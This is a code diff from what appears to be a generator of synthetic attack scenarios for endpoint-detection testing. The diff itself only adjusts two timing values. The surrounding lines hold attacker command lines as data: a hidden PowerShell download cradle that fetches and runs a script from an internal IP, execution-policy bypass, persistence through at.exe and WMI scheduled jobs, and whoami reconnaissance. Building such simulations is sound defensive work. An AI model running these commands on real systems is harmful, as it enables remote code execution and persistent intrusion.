@@ -591,7 +591,7 @@ def build_scenarios():
                     tag="attack")
     job_runs(s, 212.5, ps_exe, "powershell.exe -nop -w hidden -c \"IEX (New-Object "
                                "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
-             "At1", "2026-03-11T10:05:00", first.pid, 1287.5)
+             "At1", "2026-03-11T10:05:00", first.pid, 1287.64)
     benign_background(s, 220, 600, 4)
     ps = s.spawn(611.0, ps_exe, 'powershell.exe -ExecutionPolicy Bypass -NoProfile', s.session)
     s.spawn(618.84, at_exe, "at.exe 16:45 /interactive /every:F powershell.exe -ep bypass -File "
@@ -613,7 +613,7 @@ def build_scenarios():
                                                              "-secured -Embedding", SYSTEM_USER,
                        s.base - dt.timedelta(hours=5))
     job_runs(s, 172.3, cmd_exe, "cmd.exe /c whoami > c:\\windows\\temp\\x.txt", "At1",
-             "2026-03-12T12:30:00", wmi.pid, 1027.7)
+             "2026-03-12T12:30:00", wmi.pid, 1027.83)
     benign_background(s, 180, 420, 4)
     s.spawn(433.05, ps_exe, "powershell.exe -NoProfile -Command \"([wmiclass]'\\\\.\\root\\cimv2:"
                             "Win32_ScheduledJob').Create('powershell.exe -w hidden -f C:\\ProgramData\\sync.ps1',"
